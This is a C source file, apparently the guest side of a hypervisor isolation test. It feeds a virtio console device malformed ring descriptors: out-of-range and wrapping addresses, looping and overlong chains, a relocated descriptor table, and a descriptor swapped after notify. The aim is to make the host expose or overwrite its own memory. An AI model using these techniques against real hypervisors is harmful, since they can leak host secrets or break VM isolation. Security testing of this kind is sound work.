/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Goal: make the hypervisor read and write its own memory for the guest, by virtio rings that are
 * not what they should be. The device may be lost over each; it is then reset.
 */
#include "attack.h"
#include "virtio.h"

#include <string.h>

static uint8_t buffer[64];

static void set(unsigned i, uint64_t address, uint32_t length, uint16_t flags, uint16_t next)
{
    console_tx()->memory->desc[i] = (struct virtq_desc){address, length, flags, next};
}

/* Sends the chain at descriptor 0, waits a little, then starts the device again. */
static void notify(const char *name, uint16_t head)
{
    uint32_t length = 0;
    bool used = false;

    virtq_post(console_tx(), head);
    for (unsigned i = 0; i < 1000 && !used; i++) {
        used = virtq_used(console_tx(), &length);
    }
    virtio_start();
    say("\n");
    say_attempt(name, used);
}

static void out_of_range(const struct orders *o)
{
    set(0, o->target, SECRET_BYTES, 0, 0);
    notify("buffer-at-target", 0);
    set(0, machine.memory_base + machine.memory_size - 8, SECRET_BYTES, 0, 0);
    notify("buffer-across-the-end", 0);
    set(0, ~0ull - 8, SECRET_BYTES, 0, 0);
    notify("buffer-wraps", 0);
    notify("head-out-of-range", 0xfff0);
}

static void chains(void)
{
    set(0, (uintptr_t)buffer, 8, VIRTQ_DESC_NEXT, 1);
    set(1, (uintptr_t)buffer + 8, 8, VIRTQ_DESC_NEXT, 0);
    notify("chain-loops", 0);
    set(0, (uintptr_t)buffer, 8, VIRTQ_DESC_NEXT, 0x7777);
    notify("next-out-of-range", 0);
    set(0, (uintptr_t)buffer, 0xffffffff, 0, 0);
    notify("buffer-overlong", 0);
    set(0, (uintptr_t)buffer, 32, VIRTQ_DESC_NEXT, 1);
    set(1, (uintptr_t)buffer + 16, 32, 0, 0);
    notify("buffers-overlap", 0);
    set(0, (uintptr_t)buffer, 16, VIRTQ_DESC_INDIR, 0);
    notify("indirect", 0);
    set(0, (uintptr_t)buffer, 8, VIRTQ_DESC_WRITE, 0);
    notify("writable-to-transmit", 0);
}

static void ring_addresses(const struct orders *o)
{
    struct virtq_memory *own = console_tx()->memory;

    console_tx()->memory = (struct virtq_memory *)(uintptr_t)(o->target & ~15ull);
    virtio_write(VIRTIO_QUEUE_SELECT, 1);
    virtio_write(VIRTIO_QUEUE_READY, 0);
    virtio_write(VIRTIO_QUEUE_DESC, (uint32_t)o->target);
    virtio_write(VIRTIO_QUEUE_READY, 1);
    console_tx()->memory = own;
    notify("table-at-target", 0);
    own->avail.index += 100; /* more than the queue holds */
    notify("index-jumps", 0);
}

/* What stands in the buffer when the device looks is what counts, not what stood there at notify.
 */
static void change_after_notify(const struct orders *o)
{
    uint32_t length;

    memset(buffer, '.', sizeof(buffer));
    set(0, (uintptr_t)buffer, 16, 0, 0);
    virtq_post(console_tx(), 0);
    set(0, o->target, SECRET_BYTES, 0, 0);
    for (unsigned i = 0; i < 1000 && !virtq_used(console_tx(), &length); i++) {
    }
    say("\n");
    say_attempt("descriptor-changed-after-notify", 1);
}

void guest_main(void)
{
    struct orders orders;

    orders_read(&orders);
    change_after_notify(&orders);
    out_of_range(&orders);
    chains();
    ring_addresses(&orders);
}
